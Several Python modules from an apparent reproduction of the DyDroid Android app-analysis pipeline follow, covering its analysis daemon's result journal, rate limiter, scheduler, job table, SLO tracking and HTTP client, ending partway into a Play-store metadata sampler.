    def __contains__(self, digest: str) -> bool:
        with self._lock:
            return digest in self._content

    # -- writes ----------------------------------------------------------------

    def put(self, spec_key: str, digest: str, analysis: Dict[str, object]) -> None:
        with self._lock:
            self._content[digest] = analysis
            self._spec_index[spec_key] = digest

    def link_spec(self, spec_key: str, digest: str) -> None:
        """Point an additional submission key at an existing digest."""
        with self._lock:
            self._spec_index[spec_key] = digest

    # -- introspection ---------------------------------------------------------

    def __len__(self) -> int:
        with self._lock:
            return len(self._content)

    def spec_keys(self) -> int:
        with self._lock:
            return len(self._spec_index)

    def digests(self) -> List[str]:
        with self._lock:
            return sorted(set(self._spec_index.values()))
