"""Result persistence: append-only JSONL surviving daemon restarts.

Modeled on :mod:`repro.farm.checkpoint`: line 1 is a header binding the
journal to the daemon's pipeline configuration::

    {"kind": "header", "version": 1, "fingerprint": "<sha256[:16] of config>"}

then one line per *distinct* analyzed APK, in completion order::

    {"kind": "result", "digest": "...", "spec_key": "...",
     "package": "com.a.b", "analyze_s": 0.12, "analysis": {...}}

Appends are flushed line-by-line (a killed daemon loses at most the job
in flight); on reload a torn final line is dropped, corruption anywhere
earlier is an error.  The fingerprint check refuses to serve results
computed under a different pipeline configuration -- the same contract
the farm checkpoint enforces for ``--resume``.

Unlike the farm journal, opening an existing file *resumes by default*:
a restarted daemon should serve what it already computed.
"""

from __future__ import annotations

import hashlib
import json
import threading
from pathlib import Path
from typing import Dict, List, Optional, Union

from repro.core.config import DyDroidConfig

try:  # POSIX only; elsewhere single-writer enforcement degrades to trust.
    import fcntl
except ImportError:  # pragma: no cover - non-POSIX fallback
    fcntl = None

__all__ = ["JOURNAL_VERSION", "ResultJournal", "ServicePersistError", "pipeline_fingerprint"]

JOURNAL_VERSION = 1


class ServicePersistError(ValueError):
    """The journal is unreadable or was written under another pipeline config."""


def pipeline_fingerprint(config: DyDroidConfig) -> str:
    """Stable identity of the pipeline configuration alone.

    The cache is content-addressed, so unlike the farm's
    :func:`~repro.farm.jobs.run_fingerprint` no corpus identity is mixed
    in -- results are reusable across seeds as long as the *analysis*
    behaves identically.
    """
    return hashlib.sha256(repr(config).encode("utf-8")).hexdigest()[:16]


class ResultJournal:
    """Single-file journal shared by all scheduler threads (lock-serialized).

    Crash-consistency audit (vs. the sibling-torn-tail hole fixed in
    :meth:`repro.store.verdicts.VerdictStore._publish`): all appends to
    this journal go through one handle behind one mutex, so a torn tail
    can only be this daemon's own crash debris, healed on the next open
    before new appends.  The hole needs a *second* process appending to
    the same path -- two daemons started with the same ``--persist`` --
    so the handle takes a non-blocking exclusive ``flock`` for its whole
    lifetime and the second daemon fails fast with
    :class:`ServicePersistError` instead of silently interleaving.
    """

    def __init__(self, path: Union[str, Path], config: DyDroidConfig) -> None:
        self.path = Path(path)
        self.fingerprint = pipeline_fingerprint(config)
        self._lock = threading.Lock()
        #: entries restored from a previous daemon's lifetime.
        self.restored: List[Dict[str, object]] = []
        # Open append-mode and lock *before* any truncation, so a second
        # daemon can never clobber the live owner's file.
        if self.path.exists() and self.path.stat().st_size > 0:
            self._load()
            self._handle = self.path.open("a", encoding="utf-8")
            self._lock_exclusive()
            self._truncate_torn_tail()
        else:
            self.path.parent.mkdir(parents=True, exist_ok=True)
            self._handle = self.path.open("a", encoding="utf-8")
            self._lock_exclusive()
            self._handle.truncate(0)
            self._write_line(
                {
                    "kind": "header",
                    "version": JOURNAL_VERSION,
                    "fingerprint": self.fingerprint,
                }
            )

    def _lock_exclusive(self) -> None:
        """Claim sole ownership of the journal for this handle's lifetime."""
        if fcntl is None:  # pragma: no cover - non-POSIX fallback
            return
        try:
            fcntl.flock(self._handle.fileno(), fcntl.LOCK_EX | fcntl.LOCK_NB)
        except OSError:
            self._handle.close()
            raise ServicePersistError(
                "result journal {} is already owned by a live daemon; "
                "refusing to double-write it".format(self.path)
            )

    # -- restore ---------------------------------------------------------------

    def _load(self) -> None:
        lines = self.path.read_text(encoding="utf-8").splitlines()
        header = self._parse(lines[0], line_no=1, final=False)
        self._check_header(header)
        last = len(lines)
        kept = lines
        for line_no, line in enumerate(lines[1:], start=2):
            entry = self._parse(line, line_no=line_no, final=line_no == last)
            if entry is None:
                kept = lines[:-1]  # torn final line from a mid-write kill
                continue
            if entry.get("kind") != "result":
                raise ServicePersistError(
                    "{}:{}: unknown entry kind {!r}".format(
                        self.path, line_no, entry.get("kind")
                    )
                )
            for key in ("spec_key", "digest", "package", "analysis"):
                if key not in entry:
                    raise ServicePersistError(
                        "{}:{}: result entry is missing required field "
                        "{!r}".format(self.path, line_no, key)
                    )
            self.restored.append(entry)
        # Valid-prefix byte length; see _truncate_torn_tail.
        self._valid_bytes = len(
            "".join(line + "\n" for line in kept).encode("utf-8")
        )

    def _truncate_torn_tail(self) -> None:
        """Drop a torn final line from disk, not just from the restore.

        Reopening with mode ``"a"`` after merely *ignoring* the torn tail
        would append the next result onto the partial line; on the restart
        after that the merged line is interior, so _parse escalates it to
        a hard ServicePersistError.  Truncating to the valid prefix keeps
        every future restart clean.
        """
        if self._valid_bytes < self.path.stat().st_size:
            with self.path.open("r+b") as handle:
                handle.truncate(self._valid_bytes)

    def _parse(self, line: str, line_no: int, final: bool) -> Optional[dict]:
        try:
            entry = json.loads(line)
        except json.JSONDecodeError:
            if final:
                return None
            raise ServicePersistError(
                "{}:{}: corrupt journal line".format(self.path, line_no)
            )
        if not isinstance(entry, dict):
            raise ServicePersistError(
                "{}:{}: journal line is not an object".format(self.path, line_no)
            )
        return entry

    def _check_header(self, header: Optional[dict]) -> None:
        if header is None or header.get("kind") != "header":
            raise ServicePersistError(
                "{} does not start with a journal header".format(self.path)
            )
        if header.get("version") != JOURNAL_VERSION:
            raise ServicePersistError(
                "unsupported journal version {}".format(header.get("version"))
            )
        if header.get("fingerprint") != self.fingerprint:
            raise ServicePersistError(
                "journal {} was written under a different pipeline "
                "configuration; refusing to serve its results".format(self.path)
            )

    # -- append ---------------------------------------------------------------

    def _write_line(self, entry: dict) -> None:
        self._handle.write(json.dumps(entry, sort_keys=True) + "\n")
        self._handle.flush()

    def append_result(
        self,
        spec_key: str,
        digest: str,
        package: str,
        analyze_s: float,
        analysis: Dict[str, object],
    ) -> None:
        with self._lock:
            self._write_line(
                {
                    "kind": "result",
                    "spec_key": spec_key,
                    "digest": digest,
                    "package": package,
                    "analyze_s": round(analyze_s, 6),
                    "analysis": analysis,
                }
            )

    def close(self) -> None:
        with self._lock:
            self._handle.close()
