"""Per-client token-bucket rate limiting.

Each client key (the ``client`` field of a submission, falling back to
the peer address) owns one bucket of ``burst`` tokens refilled at
``rate_per_s``.  A submission spends one token; an empty bucket raises
:class:`RateLimitedError` with the exact ``retry_after_s`` until the next
token, which the HTTP layer surfaces as 429 + ``Retry-After``.

The clock is injectable so tests control refill deterministically.
"""

from __future__ import annotations

import threading
import time
from collections import OrderedDict
from typing import Callable, Optional

__all__ = ["MAX_RETRY_AFTER_S", "RateLimitedError", "RateLimiter", "TokenBucket"]

#: forget the least-recently-seen client past this many tracked buckets.
MAX_TRACKED_CLIENTS = 4096

#: ceiling for any serialized retry hint.  ``TokenBucket.try_acquire``
#: reports ``inf`` when ``rate_per_s <= 0`` (a bucket created under a
#: previous rate, raced with a config that has since disabled refill);
#: ``inf`` is truthful in-process but must never reach the wire --
#: ``int(inf)`` raises and JSON has no ``Infinity`` -- so HTTP layers
#: clamp to this before building ``Retry-After`` headers or bodies.
MAX_RETRY_AFTER_S = 3600.0


class RateLimitedError(RuntimeError):
    """The client exhausted its token bucket."""

    def __init__(self, client: str, retry_after_s: float) -> None:
        super().__init__(
            "client {!r} rate limited; retry in {:.2f}s".format(client, retry_after_s)
        )
        self.client = client
        self.retry_after_s = retry_after_s


class TokenBucket:
    """A single client's bucket: ``burst`` capacity, ``rate_per_s`` refill."""

    __slots__ = ("rate_per_s", "burst", "tokens", "updated", "_clock")

    def __init__(
        self, rate_per_s: float, burst: int,
        clock: Callable[[], float] = time.monotonic,
    ) -> None:
        self.rate_per_s = rate_per_s
        self.burst = burst
        self.tokens = float(burst)
        self._clock = clock
        self.updated = clock()

    def _refill(self) -> None:
        now = self._clock()
        self.tokens = min(
            float(self.burst), self.tokens + (now - self.updated) * self.rate_per_s
        )
        self.updated = now

    def try_acquire(self) -> Optional[float]:
        """Spend one token; ``None`` on success, else seconds until one refills."""
        self._refill()
        if self.tokens >= 1.0:
            self.tokens -= 1.0
            return None
        if self.rate_per_s <= 0.0:
            return float("inf")
        return (1.0 - self.tokens) / self.rate_per_s

    def is_full(self) -> bool:
        """Refilled back to burst capacity: forgetting it loses no state."""
        self._refill()
        return self.tokens >= float(self.burst)


class RateLimiter:
    """Create-on-first-use map of client key -> :class:`TokenBucket`.

    ``rate_per_s <= 0`` disables limiting entirely (the default for local
    runs); the tracked-client map is LRU-bounded so an open endpoint
    cannot grow it without limit.
    """

    def __init__(
        self, rate_per_s: float, burst: int = 10,
        clock: Callable[[], float] = time.monotonic,
        max_tracked: int = MAX_TRACKED_CLIENTS,
    ) -> None:
        if burst < 1:
            raise ValueError("burst must be >= 1")
        if max_tracked < 1:
            raise ValueError("max_tracked must be >= 1")
        self.rate_per_s = rate_per_s
        self.burst = burst
        self.max_tracked = max_tracked
        self._clock = clock
        self._buckets: "OrderedDict[str, TokenBucket]" = OrderedDict()
        self._lock = threading.Lock()

    @property
    def enabled(self) -> bool:
        return self.rate_per_s > 0.0

    def allow(self, client: str) -> None:
        """Admit one submission or raise :class:`RateLimitedError`."""
        if not self.enabled:
            return
        with self._lock:
            bucket = self._buckets.get(client)
            if bucket is None:
                bucket = TokenBucket(self.rate_per_s, self.burst, clock=self._clock)
                self._buckets[client] = bucket
            self._buckets.move_to_end(client)
            while len(self._buckets) > self.max_tracked:
                self._evict_one(client)
            wait_s = bucket.try_acquire()
        if wait_s is not None:
            raise RateLimitedError(client, wait_s)

    def _evict_one(self, current: str) -> None:
        """Forget one bucket without resetting anyone's burst (lock held).

        Plain LRU eviction had a hole: a depleted client that stopped
        sending long enough to be evicted came back to a brand-new full
        bucket -- eviction *was* the reset.  Prefer the oldest bucket that
        has refilled to full (dropping it is lossless: recreating it
        yields the identical state); fall back to the plain oldest only
        when every tracked bucket still remembers spent tokens.  The
        current client's own bucket is never the victim.
        """
        fallback = None
        for key, bucket in self._buckets.items():  # oldest first
            if key == current:
                continue
            if fallback is None:
                fallback = key
            if bucket.is_full():
                del self._buckets[key]
                return
        if fallback is not None:
            del self._buckets[fallback]

    def tracked_clients(self) -> int:
        with self._lock:
            return len(self._buckets)
