"""The background scheduler pool: threads dispatching queued jobs.

Workers pull job ids from the :class:`~repro.service.queue.JobQueue`
(highest priority first) and hand each to the service's execute
callable.  Mirroring :mod:`repro.farm.worker`, a failing job never takes
its worker down: any exception that escapes execution is recorded by the
service against the job, and the loop continues.

Each worker thread lazily owns one :class:`~repro.core.pipeline.DyDroid`
instance (DroidNative training happens once per thread, not per job) --
the daemon-side analogue of a farm worker process re-using its pipeline
across a whole shard.

``drain()`` is the graceful-shutdown path: close the queue to new work,
then join the workers, who exit only once the queue is empty -- queued
jobs are finished, not dropped.
"""

from __future__ import annotations

import threading
import time
from typing import Callable, List, Optional

from repro.service.queue import JobQueue

__all__ = ["SchedulerPool"]

#: queue poll interval; bounds how long drain() waits on an idle worker.
_POLL_S = 0.05


class SchedulerPool:
    """``workers`` daemon threads running the service's execute callable.

    ``workers=0`` is a valid, deliberately-stalled pool (nothing ever
    dequeues) used by tests to fill the queue and exercise admission
    control.
    """

    def __init__(
        self,
        queue: JobQueue,
        execute: Callable[[str, int], None],
        workers: int,
        on_error: Optional[Callable[[str, BaseException], None]] = None,
        clock: Callable[[], float] = time.monotonic,
    ) -> None:
        if workers < 0:
            raise ValueError("workers must be >= 0")
        self.workers = workers
        self._clock = clock
        self._queue = queue
        self._execute = execute
        self._on_error = on_error
        self._threads: List[threading.Thread] = []
        self._stop = threading.Event()
        self._busy = 0
        self._busy_lock = threading.Lock()

    # -- lifecycle -------------------------------------------------------------

    def start(self) -> None:
        for worker_id in range(self.workers):
            thread = threading.Thread(
                target=self._loop,
                args=(worker_id,),
                name="repro-service-worker-{}".format(worker_id),
                daemon=True,
            )
            self._threads.append(thread)
            thread.start()

    def drain(self, timeout: Optional[float] = None) -> bool:
        """Finish all queued work, then stop; True if every worker exited."""
        self._queue.close()
        return self.join(timeout=timeout)

    def stop(self, timeout: Optional[float] = None) -> bool:
        """Stop after in-flight jobs only; queued jobs are abandoned."""
        self._stop.set()
        self._queue.close()
        return self.join(timeout=timeout)

    def join(self, timeout: Optional[float] = None) -> bool:
        """Join every worker against one shared deadline.

        ``timeout`` bounds the *total* wait, not the per-thread wait: a
        ``drain(timeout=T)`` during SIGTERM must return within ~T even
        with W stuck workers, where a per-thread timeout would block for
        W x T.  Threads already joined consume none of the budget, so the
        remaining allowance flows to whichever thread is still running.
        """
        deadline = None if timeout is None else self._clock() + timeout
        alive = False
        for thread in self._threads:
            if deadline is None:
                thread.join()
            else:
                thread.join(timeout=max(0.0, deadline - self._clock()))
            alive = alive or thread.is_alive()
        return not alive

    # -- introspection ---------------------------------------------------------

    def busy(self) -> int:
        with self._busy_lock:
            return self._busy

    def idle(self) -> bool:
        return self.busy() == 0 and self._queue.depth() == 0

    # -- worker loop -----------------------------------------------------------

    def _loop(self, worker_id: int) -> None:
        while not self._stop.is_set():
            job_id = self._queue.get(timeout=_POLL_S)
            if job_id is None:
                if self._queue.closed and self._queue.depth() == 0:
                    return
                continue
            with self._busy_lock:
                self._busy += 1
            try:
                self._execute(job_id, worker_id)
            except BaseException as exc:  # noqa: BLE001 - worker must survive
                if self._on_error is not None:
                    self._on_error(job_id, exc)
            finally:
                with self._busy_lock:
                    self._busy -= 1
