"""Job records and the thread-safe job table.

A :class:`Job` is the unit clients poll: QUEUED -> RUNNING -> DONE or
FAILED.  Submissions answered without a pipeline run (spec-level cache
hits, in-flight coalescing onto an existing job, content-level digest
hits after the build stage) are visible through ``cached`` /
``coalesced_with``.

The table retains finished jobs so ``GET /v1/jobs/{id}`` keeps working
after completion, bounded by ``max_retained`` with oldest-finished-first
eviction so a long-lived daemon cannot grow without limit.
"""

from __future__ import annotations

import threading
import time
from collections import deque
from dataclasses import dataclass, field
from enum import Enum
from typing import Deque, Dict, Optional

from repro.service.spec import JobSpec

__all__ = ["Job", "JobState", "JobTable"]


class JobState(Enum):
    QUEUED = "queued"
    RUNNING = "running"
    DONE = "done"
    FAILED = "failed"


@dataclass
class Job:
    """One submission's lifecycle, as reported by ``GET /v1/jobs/{id}``."""

    job_id: str
    spec: JobSpec
    spec_key: str
    client: str = "anonymous"
    priority: int = 0
    state: JobState = JobState.QUEUED
    submitted_ts: float = field(default_factory=time.time)
    started_ts: Optional[float] = None
    finished_ts: Optional[float] = None
    #: content digest (``Apk.sha256()``); set once the APK is built, or
    #: immediately for cache-hit submissions.
    digest: Optional[str] = None
    error: Optional[str] = None
    #: served without executing the pipeline for this submission.
    cached: bool = False
    #: submissions coalesced onto this job while it was in flight.
    coalesced: int = 0
    analyze_s: float = 0.0
    #: who produced the verdicts: "triage" when the tier-0 gate
    #: short-circuited, "full" for analyzer runs, "" until known.
    verdict_source: str = ""

    @property
    def finished(self) -> bool:
        return self.state in (JobState.DONE, JobState.FAILED)

    def to_dict(self) -> Dict[str, object]:
        return {
            "job_id": self.job_id,
            "spec": self.spec.to_dict(),
            "client": self.client,
            "priority": self.priority,
            "state": self.state.value,
            "submitted_ts": round(self.submitted_ts, 6),
            "started_ts": round(self.started_ts, 6) if self.started_ts else None,
            "finished_ts": round(self.finished_ts, 6) if self.finished_ts else None,
            "digest": self.digest,
            "error": self.error,
            "cached": self.cached,
            "coalesced": self.coalesced,
            "analyze_s": round(self.analyze_s, 6),
            "verdict_source": self.verdict_source,
        }


class JobTable:
    """id -> :class:`Job` with monotonic ids and bounded retention."""

    def __init__(self, max_retained: int = 4096) -> None:
        if max_retained < 1:
            raise ValueError("max_retained must be >= 1")
        self.max_retained = max_retained
        self._jobs: Dict[str, Job] = {}
        self._finished: Deque[str] = deque()
        self._next = 1
        self._lock = threading.Lock()

    def create(self, spec: JobSpec, client: str, priority: int) -> Job:
        with self._lock:
            job_id = "job-{:06d}".format(self._next)
            self._next += 1
            job = Job(
                job_id=job_id, spec=spec, spec_key=spec.key(),
                client=client, priority=priority,
            )
            self._jobs[job_id] = job
            return job

    def get(self, job_id: str) -> Optional[Job]:
        with self._lock:
            return self._jobs.get(job_id)

    def discard(self, job_id: str) -> None:
        """Forget a job that was never admitted (enqueue failed after create)."""
        with self._lock:
            job = self._jobs.pop(job_id, None)
            # Reclaim the id only when it was the latest issued, so the
            # "total" count stays exact without ever reusing a live id.
            if job is not None and job_id == "job-{:06d}".format(self._next - 1):
                self._next -= 1

    def mark_finished(self, job: Job) -> None:
        """Register a finished job for retention-bounded eviction."""
        with self._lock:
            self._finished.append(job.job_id)
            while len(self._finished) > self.max_retained:
                evicted = self._finished.popleft()
                self._jobs.pop(evicted, None)

    def counts(self) -> Dict[str, int]:
        with self._lock:
            counts = {state.value: 0 for state in JobState}
            for job in self._jobs.values():
                counts[job.state.value] += 1
            counts["total"] = self._next - 1
            counts["retained"] = len(self._jobs)
            return counts
