"""Per-tenant SLO tracking: objectives, rolling windows, error budgets.

An operator states objectives once (``--slo p95=30s,error_rate=1%``) and
the daemon scores every completed job against them, per client id.  The
arithmetic is the standard error-budget model:

- an objective ``error_rate=1%`` allows at most 1% of a client's recent
  jobs to fail; the **budget** is the fraction of that allowance still
  unspent (1.0 untouched, 0.0 exhausted, clamped);
- a latency objective ``p95=30s`` allows at most 5% of recent jobs to
  run past 30s -- the budget is the unspent fraction of *that* violation
  allowance.  (Tracking threshold violations, not achieved percentiles,
  is what makes the budget linear and windowed.)

Windows are per-client rings of the last ``window`` jobs, so one noisy
tenant cannot burn another tenant's budget and old incidents age out by
volume, not wall clock -- the right shape for a queue whose throughput
varies by orders of magnitude between cold and warm caches.

:class:`SloTracker` is thread-safe; the daemon calls ``observe`` from
scheduler workers and ``snapshot`` from HTTP threads.
"""

from __future__ import annotations

import math
import threading
from collections import deque
from typing import Deque, Dict, List, Optional, Tuple

__all__ = ["SloError", "SloObjectives", "SloTracker", "parse_slo"]


class SloError(ValueError):
    """An unparseable ``--slo`` specification."""


_DURATION_UNITS = (("ms", 1e-3), ("s", 1.0), ("m", 60.0))


def _parse_duration(raw: str) -> float:
    text = raw.strip().lower()
    for suffix, scale in _DURATION_UNITS:
        if text.endswith(suffix):
            try:
                return float(text[: -len(suffix)]) * scale
            except ValueError:
                break
    try:
        return float(text)  # bare number: seconds
    except ValueError:
        raise SloError("bad duration {!r} (want e.g. 30s, 250ms, 1.5)".format(raw))


def _parse_rate(raw: str) -> float:
    text = raw.strip()
    try:
        value = float(text[:-1]) / 100.0 if text.endswith("%") else float(text)
    except ValueError:
        raise SloError("bad rate {!r} (want e.g. 1% or 0.01)".format(raw))
    if not 0.0 < value < 1.0:
        raise SloError("rate {!r} must be in (0, 1) exclusive".format(raw))
    return value


class SloObjectives:
    """Parsed objectives: latency thresholds per percentile + error rate."""

    def __init__(
        self,
        latency: Optional[Dict[str, float]] = None,
        error_rate: Optional[float] = None,
    ) -> None:
        #: e.g. ``{"p95": 30.0}`` -- percentile label -> threshold seconds.
        self.latency = dict(latency or {})
        self.error_rate = error_rate
        for label in self.latency:
            self._allowance(label)  # validate eagerly

    @staticmethod
    def _allowance(label: str) -> float:
        """``p95`` -> 0.05: the tolerated fraction of threshold violations."""
        try:
            percentile = float(label[1:])
        except (ValueError, IndexError):
            raise SloError("bad latency objective {!r} (want p50/p95/p99)".format(label))
        if label[0] != "p" or not 0.0 < percentile < 100.0:
            raise SloError("bad latency objective {!r} (want p50/p95/p99)".format(label))
        return 1.0 - percentile / 100.0

    @property
    def empty(self) -> bool:
        return not self.latency and self.error_rate is None

    def to_dict(self) -> Dict[str, object]:
        payload: Dict[str, object] = {
            label: {"threshold_s": threshold, "allowance": round(self._allowance(label), 6)}
            for label, threshold in sorted(self.latency.items())
        }
        if self.error_rate is not None:
            payload["error_rate"] = self.error_rate
        return payload


def parse_slo(spec: str) -> SloObjectives:
    """``"p95=30s,error_rate=1%"`` -> :class:`SloObjectives`.

    Keys: ``pNN=<duration>`` (any percentile in (0, 100)), and
    ``error_rate=<rate>``.  Raises :class:`SloError` on anything else.
    """
    latency: Dict[str, float] = {}
    error_rate: Optional[float] = None
    for part in filter(None, (p.strip() for p in spec.split(","))):
        if "=" not in part:
            raise SloError("bad objective {!r} (want key=value)".format(part))
        key, _, value = part.partition("=")
        key = key.strip().lower()
        if key == "error_rate":
            error_rate = _parse_rate(value)
        elif key.startswith("p"):
            SloObjectives._allowance(key)
            latency[key] = _parse_duration(value)
        else:
            raise SloError(
                "unknown objective {!r} (want pNN=<duration> or error_rate=<rate>)".format(key)
            )
    objectives = SloObjectives(latency, error_rate)
    if objectives.empty:
        raise SloError("empty SLO spec {!r}".format(spec))
    return objectives


def _percentile(durations_sorted: List[float], q: float) -> float:
    """Nearest-rank percentile (same method as the trace summary)."""
    if not durations_sorted:
        return 0.0
    rank = max(1, math.ceil(q * len(durations_sorted)))
    return durations_sorted[min(rank, len(durations_sorted)) - 1]


class SloTracker:
    """Rolling per-client evaluation of one set of objectives."""

    def __init__(self, objectives: SloObjectives, window: int = 256) -> None:
        if window < 1:
            raise ValueError("window must be >= 1")
        self.objectives = objectives
        self.window = window
        #: client -> ring of (ok, latency_s), newest last.
        self._windows: Dict[str, Deque[Tuple[bool, float]]] = {}
        self._totals: Dict[str, int] = {}
        self._lock = threading.Lock()

    def observe(self, client: str, latency_s: float, ok: bool) -> None:
        with self._lock:
            ring = self._windows.get(client)
            if ring is None:
                ring = self._windows[client] = deque(maxlen=self.window)
            ring.append((ok, max(0.0, latency_s)))
            self._totals[client] = self._totals.get(client, 0) + 1

    # -- evaluation ------------------------------------------------------------

    def _client_report(self, ring: Deque[Tuple[bool, float]]) -> Dict[str, object]:
        n = len(ring)
        errors = sum(1 for ok, _ in ring if not ok)
        durations = sorted(latency for _, latency in ring)
        report: Dict[str, object] = {
            "window_jobs": n,
            "errors": errors,
            "budgets": {},
        }
        budgets: Dict[str, float] = report["budgets"]
        if self.objectives.error_rate is not None:
            allowed = self.objectives.error_rate * n
            budgets["error_rate"] = _budget(errors, allowed)
        for label, threshold in sorted(self.objectives.latency.items()):
            violations = sum(1 for _, latency in ring if latency > threshold)
            allowed = SloObjectives._allowance(label) * n
            budgets[label] = _budget(violations, allowed)
            report["achieved_{}_s".format(label)] = round(
                _percentile(durations, float(label[1:]) / 100.0), 6
            )
        report["met"] = all(budget > 0.0 for budget in budgets.values())
        return report

    def snapshot(self) -> Dict[str, object]:
        """Objectives plus every client's window, budgets, and verdict."""
        with self._lock:
            clients = {
                client: dict(self._client_report(ring), total_jobs=self._totals[client])
                for client, ring in sorted(self._windows.items())
            }
        return {
            "objectives": self.objectives.to_dict(),
            "window": self.window,
            "clients": clients,
        }

    def export_gauges(self, registry) -> None:
        """Publish each client's budgets as ``slo.*`` gauges.

        Names are ``slo.budget.<objective>.<client>`` plus
        ``slo.window_jobs.<client>`` -- flat, so they survive registry
        merges and Prometheus exposition unchanged.
        """
        snapshot = self.snapshot()
        for client, report in snapshot["clients"].items():
            for objective, budget in report["budgets"].items():
                registry.gauge(
                    "slo.budget.{}.{}".format(objective, client)
                ).set(round(budget, 6))
            registry.gauge("slo.window_jobs.{}".format(client)).set(
                report["window_jobs"]
            )


def _budget(spent: int, allowed: float) -> float:
    """Fraction of the violation allowance still unspent, clamped to [0, 1].

    A window too small to afford even one violation (``allowed < 1``)
    still reports a meaningful partial burn rather than jumping straight
    to zero on the first job.
    """
    if allowed <= 0.0:
        return 0.0 if spent else 1.0
    return max(0.0, min(1.0, 1.0 - spent / allowed))
