"""The stdlib client: ``http.client`` against a running daemon.

:class:`ServiceClient` backs the ``repro submit`` / ``repro status`` CLI
verbs and is the programmatic way to talk to ``repro serve``::

    client = ServiceClient("127.0.0.1", 8787)
    response = client.submit({"kind": "corpus", "seed": 7, "n_apps": 600, "index": 3})
    job = client.wait(response["job_id"])
    analysis = client.result(job["digest"])["analysis"]

Every call opens one connection (the daemon is thread-per-connection;
short-lived connections keep drain prompt).  Non-2xx responses raise
:class:`ServiceClientError` carrying the status, decoded body, and the
``Retry-After`` hint when the daemon sent one.
"""

from __future__ import annotations

import json
import time
from http.client import HTTPConnection
from typing import Dict, Optional

__all__ = ["ServiceClient", "ServiceClientError"]


class ServiceClientError(RuntimeError):
    """A non-2xx daemon response (or a job that finished FAILED)."""

    def __init__(
        self,
        message: str,
        status: int = 0,
        body: Optional[Dict[str, object]] = None,
        retry_after_s: Optional[float] = None,
    ) -> None:
        super().__init__(message)
        self.status = status
        self.body = body or {}
        self.retry_after_s = retry_after_s


class ServiceClient:
    """Minimal JSON-over-HTTP client for the analysis daemon."""

    def __init__(self, host: str, port: int, timeout: float = 30.0) -> None:
        self.host = host
        self.port = port
        self.timeout = timeout

    # -- transport -------------------------------------------------------------

    def request(
        self,
        method: str,
        path: str,
        payload: Optional[Dict[str, object]] = None,
        expect_error: bool = False,
    ) -> Dict[str, object]:
        """One round trip; raises :class:`ServiceClientError` on non-2xx.

        With ``expect_error=True`` the decoded body is returned for any
        status and ``body['_status']`` / ``body['_retry_after_s']`` carry
        the transport details (used by tests and admission probes).
        """
        connection = HTTPConnection(self.host, self.port, timeout=self.timeout)
        try:
            body = json.dumps(payload).encode("utf-8") if payload is not None else None
            headers = {"Content-Type": "application/json"} if body else {}
            try:
                connection.request(method, path, body=body, headers=headers)
                response = connection.getresponse()
                raw = response.read()
            except OSError as exc:
                raise ServiceClientError(
                    "cannot reach service at {}:{}: {}".format(self.host, self.port, exc)
                )
            try:
                decoded = json.loads(raw.decode("utf-8")) if raw else {}
            except (UnicodeDecodeError, json.JSONDecodeError):
                decoded = {"error": "non-JSON response"}
            retry_after = response.getheader("Retry-After")
            retry_after_s = float(retry_after) if retry_after else None
            if expect_error:
                decoded["_status"] = response.status
                if retry_after_s is not None:
                    decoded["_retry_after_s"] = retry_after_s
                return decoded
            if not 200 <= response.status < 300:
                raise ServiceClientError(
                    "{} {} -> {}: {}".format(
                        method, path, response.status, decoded.get("error", "?")
                    ),
                    status=response.status,
                    body=decoded,
                    retry_after_s=retry_after_s,
                )
            return decoded
        finally:
            connection.close()

    def request_text(self, method: str, path: str) -> str:
        """One round trip for a text (non-JSON) endpoint, e.g. prom metrics."""
        connection = HTTPConnection(self.host, self.port, timeout=self.timeout)
        try:
            try:
                connection.request(method, path)
                response = connection.getresponse()
                raw = response.read()
            except OSError as exc:
                raise ServiceClientError(
                    "cannot reach service at {}:{}: {}".format(self.host, self.port, exc)
                )
            if not 200 <= response.status < 300:
                raise ServiceClientError(
                    "{} {} -> {}".format(method, path, response.status),
                    status=response.status,
                )
            return raw.decode("utf-8")
        finally:
            connection.close()

    # -- endpoints -------------------------------------------------------------

    def submit(
        self,
        spec: Dict[str, object],
        client: Optional[str] = None,
        priority: int = 0,
        expect_error: bool = False,
    ) -> Dict[str, object]:
        payload = dict(spec)
        if client is not None:
            payload["client"] = client
        if priority:
            payload["priority"] = priority
        return self.request("POST", "/v1/submit", payload, expect_error=expect_error)

    def job(self, job_id: str) -> Dict[str, object]:
        return self.request("GET", "/v1/jobs/{}".format(job_id))

    def result(self, digest: str) -> Dict[str, object]:
        return self.request("GET", "/v1/results/{}".format(digest))

    def stats(self) -> Dict[str, object]:
        return self.request("GET", "/v1/stats")

    def metrics(self) -> Dict[str, object]:
        return self.request("GET", "/metrics")

    def metrics_prom(self) -> str:
        """The Prometheus text exposition (``/metrics?format=prom``)."""
        return self.request_text("GET", "/metrics?format=prom")

    def healthz(self) -> Dict[str, object]:
        return self.request("GET", "/healthz")

    # -- conveniences ----------------------------------------------------------

    def wait(
        self, job_id: str, timeout: float = 120.0, interval: float = 0.05
    ) -> Dict[str, object]:
        """Poll ``/v1/jobs/{id}`` until DONE; raise on FAILED or timeout."""
        deadline = time.monotonic() + timeout
        while True:
            job = self.job(job_id)
            if job["state"] == "done":
                return job
            if job["state"] == "failed":
                raise ServiceClientError(
                    "job {} failed: {}".format(job_id, job.get("error")),
                    status=200,
                    body=job,
                )
            if time.monotonic() >= deadline:
                raise ServiceClientError(
                    "timed out after {:.0f}s waiting for job {} (state {})".format(
                        timeout, job_id, job["state"]
                    )
                )
            time.sleep(interval)

    def submit_and_wait(
        self,
        spec: Dict[str, object],
        client: Optional[str] = None,
        priority: int = 0,
        timeout: float = 120.0,
    ) -> Dict[str, object]:
        """Submit, wait, and fetch the analysis for ``spec`` in one call."""
        response = self.submit(spec, client=client, priority=priority)
        job = (
            response
            if response["state"] == "done"
            else self.wait(response["job_id"], timeout=timeout)
        )
        return self.result(job["digest"])
