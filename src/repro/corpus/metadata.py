"""Play-store metadata: categories and popularity sampling (Table III).

Downloads and rating counts follow log-normal distributions (the standard
shape of app-store popularity); group means are calibrated so that apps
with DEX/native DCL average higher download and rating counts than their
complements, as Table III reports.  The average star rating is sampled
normally around the group mean and clamped to [1, 5].
"""

from __future__ import annotations

import math
import random
from dataclasses import dataclass

from repro.corpus.profiles import CorpusProfile

#: the paper's data set spans 42 Google Play categories.
CATEGORIES = (
    "Art & Design", "Auto & Vehicles", "Beauty", "Books & Reference",
    "Business", "Comics", "Communication", "Dating", "Education",
    "Entertainment", "Events", "Finance", "Food & Drink", "Games",
    "Health & Fitness", "House & Home", "Libraries & Demo", "Lifestyle",
    "Maps & Navigation", "Medical", "Music & Audio", "News & Magazines",
    "Parenting", "Personalization", "Photography", "Productivity",
    "Shopping", "Social", "Sports", "Tools", "Travel & Local",
